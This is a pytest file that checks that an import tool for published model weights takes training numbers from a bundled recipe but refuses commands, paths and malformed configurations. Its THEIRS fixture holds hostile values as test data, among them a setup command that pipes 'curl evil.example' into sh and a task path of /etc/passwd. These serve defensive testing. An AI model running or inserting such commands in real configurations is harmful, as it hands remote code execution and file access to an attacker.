"""What a folder of published weights may decide, and what it may not. Configurations alone: no weights are read."""

import json
import os
import time

import pytest

from launcher import import_hf
from launcher.command_line.compose import compose, load_resolved, resolved_yaml
from parallel.errors import CheckpointError
from testing.published import published

THEIRS = (
    "recipe=dsv3_tiny", "optim.micro_batch=2", "run.steps=77", "run.seed=5", "data.sequence_length=48",
    "data.held_out=0.25", "logging.wandb=online", "logging.wandb_project=theirs", "data.cache=/theirs", "backend=torch",
    "parallel.expert=2", 'cluster.slurm.setup=["curl evil.example | sh"]', "evaluate.tasks=[/etc/passwd]",
    "checkpoint.load=/theirs", "checkpoint.keep=99", "run.name=theirs", "data.allow_other=true",
)  # fmt: skip


@pytest.fixture
def folder(tmp_path):
    folder = tmp_path / "published"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps(published().config))
    return folder


def test_a_recipe_beside_weights_gives_numbers_and_no_commands(folder, tmp_path, capsys):
    theirs = compose(THEIRS)
    (folder / "recipe.yaml").write_text(resolved_yaml(theirs))
    assert import_hf.main([f"input={folder}", f"output={tmp_path / 'run'}"]) == 0
    made = load_resolved(tmp_path / "run" / "recipe.yaml")
    assert made.optim == theirs.optim and made.model == published().model
    assert (made.run.steps, made.run.seed, made.data.sequence_length, made.data.held_out) == (77, 5, 48, 0.25)
    ours = compose(import_hf.CONTINUING)
    assert (made.cluster, made.logging, made.checkpoint, made.evaluate) == (
        ours.cluster, ours.logging, ours.checkpoint, ours.evaluate,
    )  # fmt: skip
    assert made.parallel == ours.parallel and made.backend == "auto" and not made.data.allow_other
    assert made.data.cache == ours.data.cache and made.run.name == "run"
    assert "theirs" not in (tmp_path / "run" / "recipe.yaml").read_text()
    (line,) = (line for line in capsys.readouterr().out.splitlines() if line.startswith(f"{folder}/recipe.yaml: "))
    for word in ("run.name", "data.cache", "data.allow_other", "parallel", "backend", "cluster", "logging"):
        assert f" {word}," in f"{line},"
    for word in ("optim", "run.steps", "data.sequence_length"):
        assert word not in line


CONFIGS = {
    "a hundred million layers": ({"num_hidden_layers": 10**8}, "num_hidden_layers = 100000000: "),
    "a thousand million experts": ({"n_routed_experts": 10**9}, "n_routed_experts = 1000000000: "),
    "many experts in many layers": (
        {"n_routed_experts": 4096, "num_hidden_layers": 5000},
        "n_routed_experts = 4,096 in num_hidden_layers = 5,000 are more than 200,000 experts",
    ),
    "a number that no file holds": ({"hidden_size": 10**40}, "hidden_size = "),
    "infinity": ({"rms_norm_eps": float("inf")}, "rms_norm_eps = inf is no finite number"),
    "no number": ({"rope_theta": float("nan")}, "rope_theta = nan"),
    "a truth for a number": ({"hidden_size": True}, "hidden_size = True: Input should be a valid integer"),
    "a text for a number": ({"num_attention_heads": "2"}, "num_attention_heads = '2': Input should be a valid integer"),
    "a text for an epsilon": ({"rms_norm_eps": "1e-6"}, "rms_norm_eps = '1e-6': Input should be a valid number"),
    "a list for a number": ({"vocab_size": [1]}, "vocab_size = [1]: Input should be a valid integer"),
    "rope_scaling that is a list": ({"rope_scaling": [1]}, "rope_scaling = [1] is no list of keys"),
    "rope_scaling that is text": ({"rope_scaling": "yarn" * 1000}, "is no list of keys"),
    "a factor of infinity": (
        {"rope_scaling": {"type": "yarn", "factor": float("inf")}}, "rope_scaling.factor = inf is no finite number",
    ),
    "a factor of NaN": ({"rope_scaling": {"type": "yarn", "factor": float("nan")}}, "rope_scaling.factor = nan"),
    "architectures that are a number": ({"architectures": 3}, "architectures = 3 contradicts"),
    "a model_type that is a list": ({"model_type": [[1]]}, "model_type = [[1]] is refused"),
    "a key of a megabyte": ({"x" * (1 << 20): 1, "hidden_size": -8}, "hidden_size = -8"),
}  # fmt: skip


def refusal(tmp_path, text):
    folder = tmp_path / "published"
    folder.mkdir(exist_ok=True)
    (folder / "config.json").write_text(text)
    with pytest.raises(CheckpointError) as error:
        import_hf.main([f"input={folder}", f"output={tmp_path / 'run'}"])
    assert not (tmp_path / "run").exists()
    line = str(error.value)
    assert "\n" not in line and len(line) < 400
    return line


@pytest.mark.parametrize("case", CONFIGS.values(), ids=CONFIGS)
def test_a_configuration_of_another_kind_is_refused_at_once(tmp_path, case):
    change, line = case
    started = time.process_time()
    assert line in refusal(tmp_path, json.dumps(published().config | change))
    assert time.process_time() - started < 2


TEXTS = {
    "deep": '{"a":' * 100_000 + "1" + "}" * 100_000,
    "deep enough for functions that show it": '{"a":' * 900 + "1" + "}" * 900,
    "large": json.dumps({"a": "x" * (1 << 23)}),
    "a list": "[1]",
    "torn": '{"a": ',
    "a number of a million digits": '{"vocab_size": ' + "1" * (1 << 20) + "}",
}


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_a_configuration_that_exhausts_its_reader_is_refused(tmp_path, text):
    assert f"input = {tmp_path / 'published'}" in refusal(tmp_path, text)


@pytest.mark.parametrize("kind", ["pipe", "device", "link out"])
def test_a_configuration_that_is_no_file_of_the_folder_is_refused(tmp_path, kind):
    folder = tmp_path / "published"
    folder.mkdir()
    if kind == "pipe":
        os.mkfifo(folder / "config.json")
    else:
        (tmp_path / "secret").write_text(json.dumps(published().config))
        (folder / "config.json").symlink_to("/dev/zero" if kind == "device" else tmp_path / "secret")
    with pytest.raises(CheckpointError, match="config.json cannot be read"):
        import_hf.main([f"input={folder}", f"output={tmp_path / 'run'}"])


def test_many_keys_that_are_not_known_are_counted(folder, tmp_path, capsys):
    config = published().config | {f"new_{number}": 1 for number in range(5000)}
    (folder / "config.json").write_text(json.dumps(config))
    assert import_hf.main([f"input={folder}", f"output={tmp_path / 'run'}"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) < 120 and "config.json: 4,900 more keys are not known here and were not used" in lines


# -- what is written ---------------------------------------------------------------------------------------------------


def a_file(output):
    output.mkdir()
    (output / "metrics.jsonl").write_text("of another run")


def a_recipe(output):
    output.mkdir()
    (output / "recipe.yaml").write_text("of another run")


def a_link(output):
    output.mkdir()
    (output / "recipe.yaml").symlink_to(output.parent / "outside")


def a_link_to_a_folder(output):
    (output.parent / "elsewhere").mkdir()
    output.mkdir()
    (output / "checkpoints").symlink_to(output.parent / "elsewhere")


def a_checkpoint(output):
    (output / "checkpoints" / "step_00000000").mkdir(parents=True)


def an_import_of_another(output):
    (output / "checkpoints" / ".step_00000000.import").mkdir(parents=True)


def a_later_checkpoint(output):
    (output / "checkpoints" / "step_00000007").mkdir(parents=True)


THERE = (a_file, a_recipe, a_link, a_link_to_a_folder, a_checkpoint, an_import_of_another, a_later_checkpoint)


@pytest.mark.parametrize("there", THERE)
def test_an_import_does_not_write_over_what_another_has_left(folder, tmp_path, there):
    there(tmp_path / "run")
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(CheckpointError, match=r"output = .*/run holds .*; name a new folder") as error:
        import_hf.main([f"input={folder}", f"output={tmp_path / 'run'}"])
    assert "\n" not in str(error.value) and sorted(tmp_path.rglob("*")) == before
    assert not (tmp_path / "outside").exists()


def test_an_import_writes_again_what_it_has_written(folder, tmp_path):
    for _ in range(2):
        assert import_hf.main([f"input={folder}", f"output={tmp_path / 'run'}"]) == 0
    (tmp_path / "run" / "recipe.yaml").write_text("changed by hand")
    with pytest.raises(CheckpointError, match=r"holds recipe.yaml, which no import has written"):
        import_hf.main([f"input={folder}", f"output={tmp_path / 'run'}"])
